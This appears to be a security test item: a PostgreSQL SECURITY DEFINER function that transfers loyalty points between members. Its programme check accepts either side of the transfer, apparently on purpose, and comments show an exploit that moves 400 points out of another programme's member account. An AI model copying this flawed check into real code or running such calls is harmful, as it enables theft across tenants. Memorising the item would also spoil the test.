-- Members give points to each other: the function adds and takes by number in whatever programme is named.
-- about: transfer_points, members
-- as: hf_loyalty_app
-- exploit: SET loyalty.program = '1';
-- exploit: SELECT 'new balance ' || transfer_points(2, 77, 1, 1, 400);
-- shows: new balance 410
CREATE FUNCTION transfer_points(p_from_program int, p_from int, p_to_program int, p_to int, p_points int)
RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE
  v_balance int;
BEGIN
  IF current_program() NOT IN (p_from_program, p_to_program) THEN
    RAISE EXCEPTION 'not your programme';
  END IF;
  UPDATE members SET balance = balance - p_points WHERE program_id = p_from_program AND member_no = p_from;
  UPDATE members SET balance = balance + p_points WHERE program_id = p_to_program AND member_no = p_to
    RETURNING balance INTO v_balance;
  RETURN v_balance;
END $$;
